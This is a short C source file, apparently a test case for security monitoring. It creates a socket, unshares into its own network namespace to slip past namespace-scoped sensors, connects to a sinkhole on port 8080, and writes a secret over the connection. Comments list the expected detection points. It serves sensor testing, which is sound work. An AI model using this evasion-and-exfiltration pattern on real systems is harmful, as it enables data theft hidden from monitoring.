// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Makes a socket, leaves for a network namespace of its own, and connects from there.
 * Known from: sensors that scope by the namespace of the task: the socket stays in its own.
 * First: odd doors (unshare); connect, scoped by cgroup
 * Second: inet_sock_set_state, scoped by the socket's namespace; the sinkhole's record
 */
#include "trick.h"

int main(void)
{
	struct sockaddr_in to = sink(8080);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	own_namespaces(CLONE_NEWNET);
	if (connect(fd, (void *)&to, sizeof(to)))
		blocked();
	dprintf(fd, "%s", secret());
	finish(fd);
	performed();
}
